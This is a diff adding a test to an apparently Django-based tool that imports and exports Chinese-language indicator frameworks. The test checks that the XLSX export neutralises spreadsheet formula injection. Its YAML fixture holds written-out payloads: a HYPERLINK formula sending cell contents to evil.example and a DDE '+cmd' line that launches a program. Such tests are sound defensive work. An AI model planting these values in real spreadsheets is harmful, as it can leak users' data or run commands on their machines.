@@ -359,3 +359,51 @@ def test_property_a_damaged_file_is_refused_never_crashes(slug, data):
         assert all(
             p.message and any("\u4e00" <= c <= "\u9fff" for c in p.message) for p in exc.problems
         )
+
+
+HOSTILE = """\
+format: mofan-indicators/1
+slug: hostile
+name: '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
+issuer: '+cmd|'' /C calc''!A0'
+year: 2024
+version: 1
+cadence: continuous
+nodes:
+  - code: "1"
+    title: '=1+1'
+    criteria: '@SUM(1,2)'
+    points: 10
+    method: {type: rollup}
+    children:
+      - code: "1.1"
+        title: '-2+3'
+        points: 10
+        method: {type: manual, step: 1}
+        children: []
+"""
+
+
+def test_the_xlsx_export_stores_no_formula_and_round_trips_the_text(db, tmp_path):
+    """Formula injection: a name or title written as a formula stays text in every sheet."""
+    import zipfile
+
+    source = tmp_path / "hostile.yaml"
+    source.write_text(HOSTILE, encoding="utf-8")
+    import_(source)
+    exported = export("hostile", tmp_path / "hostile.xlsx", "xlsx")
+    with zipfile.ZipFile(exported) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in archive.read(name), name
+    book = load_workbook(exported)
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
+                    # Excel shows it as text, and keeps it text when the cell is edited.
+                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
+    import_(exported, "--as", "hostile-copy")
+    system = IndicatorSystem.objects.get(slug="hostile-copy")
+    assert system.name.startswith('=HYPERLINK("http://evil.example/')
